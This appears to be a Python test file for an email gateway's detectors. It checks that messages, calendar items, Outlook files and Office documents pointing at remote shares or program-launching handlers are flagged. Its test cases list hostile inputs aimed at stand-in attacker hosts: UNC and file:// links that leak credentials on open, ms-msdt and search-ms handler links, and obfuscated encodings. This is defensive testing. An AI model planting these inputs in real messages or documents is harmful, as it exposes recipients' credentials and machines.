"""Shares on other hosts and programs of Windows that a message names: in pages, properties, calendars, fields."""

from __future__ import annotations

import pytest

from gateway.message.mime.parse import parse
from gateway.understand.openers.in_text.calendar import CALENDAR
from gateway.understand.openers.office.ooxml import OOXML
from gateway.understand.openers.office.rtf import RTF
from gateway.understand.openers.outlook.outlook_msg import OUTLOOK_MSG
from gateway.understand.openers.outlook.tnef import TNEF
from gateway.understand.openers.pages.html import HTML, shows_signs
from gateway.understand.openers.remote import is_remote, is_share, starts_program
from gateway.understand.sharing import names_sharing, sharing_defects
from gateway.understand.unfold import holds_something
from tests.corpus import office
from tests.corpus.compound_file import compound_file
from tests.support.probes.opener import opened

LOADED, PROGRAM = ("link.loaded",), ("link.program",)
PATH = "\\\\198.51.100.7\\s\\a.wav"
WIDE = PATH.encode("utf-16-le") + b"\0\0"


@pytest.mark.parametrize(
    "tag",
    [
        rb'<img src="\\198.51.100.7\s\a.png">',
        rb"<img src=\\evil.example.net\s\a.png>",
        rb"<img src=' file://198.51.100.7/s/a.png'>",
        rb'<img src="&bsol;&#92;evil.example.net\s">',
        rb'<img srcset="a.png 1x, file://evil.example.net/a.png 2x">',
        rb'<p style="background:url(file://evil.example.net/x)">',
        rb'<style>@import "\\evil.example.net\a.css"</style>',
        rb'<base href="file://evil.example.net/s/">',
        rb'<link rel=stylesheet href="\\evil.example.net\a.css">',
        rb'<v:fill src="file:///\\evil.example.net\s\a.png">',
        rb'<iframe src="ms-officecmd:{}">',
        rb'<meta http-equiv=refresh content="0; url=search-ms:query=x">',
    ],
)
def test_what_is_loaded_as_the_page_opens(tag: bytes) -> None:
    """Nobody need click."""
    assert shows_signs(tag)
    assert opened(HTML, b"<html>" + tag).codes == LOADED


@pytest.mark.parametrize(
    "tag",
    [
        rb'<a href="file://evil.example.net/s/a.lnk">',
        rb'<a href="\\evil.example.net@80\s\a.lnk">',
        rb'<a href="&#102;ile://evil.example.net/s">',
        rb'<a href="search-ms:query=x&crumb=location:\\evil.example.net@80\s">',
        rb"<a href='search:query=x'>",
        rb'<a href="ms-msdt:/id x">',
        rb"<area href=ms-appinstaller:?source=https://example.net/a>",
    ],
)
def test_what_must_be_clicked(tag: bytes) -> None:
    """A link alone is only marked."""
    assert shows_signs(tag)
    assert opened(HTML, b"<html>" + tag).codes == PROGRAM


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        (PATH, True),
        ("file://evil.example.net/a", True),
        ("\\\\evil@SSL\\s", True),
        ("//evil.example.net/a", False),
        ("\\\\srv\\s", False),
        ("https://evil.example.net/a", False),
        ("a\\\\b", False),
    ],
)
def test_shares(target: str, expected: bool) -> None:
    """On hosts that may be anyone's; not the web."""
    assert is_share(target) is expected
    assert starts_program(target) is expected


def test_a_reminder_in_tnef() -> None:
    """A named property: its set, and its number there ([MS-OXPROPS] 2.219)."""
    name = bytes.fromhex("0820060000000000c000000000000046") + b"\0\0\0\0\x1f\x85\0\0"
    value = (1).to_bytes(4, "little") + len(WIDE).to_bytes(4, "little") + WIDE + bytes(-len(WIDE) % 4)
    properties = (1).to_bytes(4, "little") + b"\x1f\0\x1f\x85" + name + value
    found = opened(TNEF, office.tnef(office.tnef_attribute(1, 0x69003, properties)))
    assert found.codes == LOADED


@pytest.mark.parametrize("tag", ["8005001F", "8123001E", "3A00001F"])
def test_a_reminder_in_a_saved_message(tag: str) -> None:
    """Whatever number the property has there."""
    octets = PATH.encode("utf-16-le") if tag.endswith("F") else PATH.encode()
    content = compound_file(office.msg_tree(more={f"__substg1.0_{tag}": octets}))
    assert "link.loaded" in opened(OUTLOOK_MSG, content).codes


def test_ordinary_properties() -> None:
    """A share of the firm's own, a text that speaks of one."""
    for text in ("\\\\srv01\\sounds\\a.wav", "see " + PATH, "reminder.wav"):
        content = compound_file(office.msg_tree(more={"__substg1.0_8005001F": text.encode("utf-16-le")}))
        assert opened(OUTLOOK_MSG, content).codes == ()


@pytest.mark.parametrize(
    "line",
    [b"ATTACH:file://198.51.100.7/s/a", b"ATTACH;VALUE=URI:\\\\198.51.100.7\\s\\a.wav", b"PHOTO;VALUE=uri:file://evil.example.net/a"],
)  # fmt: skip
def test_calendars_and_cards(line: bytes) -> None:
    """A sound, a picture."""
    content = b"BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\n" + line + b"\r\nEND:VALARM\r\nEND:VCALENDAR\r\n"
    assert opened(CALENDAR, content).codes == LOADED


def test_ordinary_attachments_of_events() -> None:
    """On the web, or in the firm."""
    content = (
        b"BEGIN:VCALENDAR\r\nATTACH:https://example.net/agenda.pdf\r\nATTACH:file://srv01/a.pdf\r\nEND:VCALENDAR\r\n"
    )
    assert opened(CALENDAR, content).codes == ()


def test_pictures_of_documents_on_shares() -> None:
    """Those on the web are many a letter's logo."""
    for target, expected in (("file://198.51.100.7/a.png", ("document.external",)), ("https://example.net/a.png", ())):
        assert opened(OOXML, office.docx(None, ("image", target))).codes == expected
    field = office.docx(
        {"word/document.xml": office.document(office.field('INCLUDEPICTURE "\\\\198.51.100.7\\a.png"'))}
    )
    assert opened(OOXML, field).codes == ("document.external",)
    rtf = rb'{\rtf1{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\198.51.100.7\\\\a.png"}}}'
    assert opened(RTF, rtf).codes == ("document.external",)


def test_links_of_documents() -> None:
    """Marked where they start a program."""
    assert opened(OOXML, office.docx(None, ("hyperlink", "search-ms:query=x"))).codes == PROGRAM
    assert opened(OOXML, office.docx(None, ("hyperlink", "https://example.net/"))).codes == ()


@pytest.mark.parametrize(
    ("field", "found"),
    [
        (b"x-sharing-config-url: \\\\198.51.100.7\\s\\a.ics", True),
        (b"X-Sharing-Remote-Path: file://evil.example.net/a", True),
        (b"x-sharing-config-url: https://example.net/a.ics", False),
        (b"x-sharing-instance-guid: 1234", False),
    ],
)
def test_fields_of_invitations_to_share(field: bytes, found: bool) -> None:
    """Such a message goes to the sandbox like one with an attachment."""
    message = parse(b"From: a@example.net\r\n" + field + b"\r\nContent-Class: Sharing\r\n\r\nhello\r\n")
    assert names_sharing(message.root)
    assert holds_something(message)
    assert tuple(one.code for one in sharing_defects(message.root)) == (LOADED if found else ())


@pytest.mark.parametrize(
    "target",
    [
        "http://a.example.net/t.dotm",
        " HTTPS://a.example.net",
        "https:\\\\a.example.net\\t",
        "http%3A//a.example.net/t",
        "ht\ttp://a.example.net",
        "http://user@a.example.net:8080/t",
        "http://3232235777/t",
        "ftp://198.51.100.7/t",
        r"\\a.example.net\share\t.dot",
        r"\\198.51.100.7\share",
        r"\\server@SSL\DavWWWRoot\t",
        r"\\?\UNC\a.example.net\t",
        "file://a.example.net/t",
        r"file:///\\a.example.net\t",
        "file:////a.example.net/t",
        "mhtml:file:///C:/t",
        "script:http://x",
        "ms-msdt:/id",
    ],
)
def test_hosts_outside_are_remote(target: str) -> None:
    """However the link is written."""
    assert is_remote(target)


@pytest.mark.parametrize(
    "target",
    [
        "",
        "Normal.dotm",
        "../t.dotx",
        r"C:\Templates\Letter.dotx",
        r"file:///C:\Templates\Letter.dotx",
        "file:///C:/Templates/Letter.dotx",
        "file:///srv/t.dotx",
        r"\\srv01\Templates\Letter.dotx",
        r"file:///\\srv01\Templates\Letter.dotx",
        r"\\files.firm.local\t",
        r"\\192.168.1.7\t",
        r"\\?\C:\t",
        "http://intranet/t.dotx",
        "http://10.1.2.3:8080/t.dotx",
        "http://localhost/t",
    ],
)
def test_hosts_of_ones_own_network_are_not(target: str) -> None:
    """Names without a dot, private addresses, drives, and plain file names."""
    assert not is_remote(target)
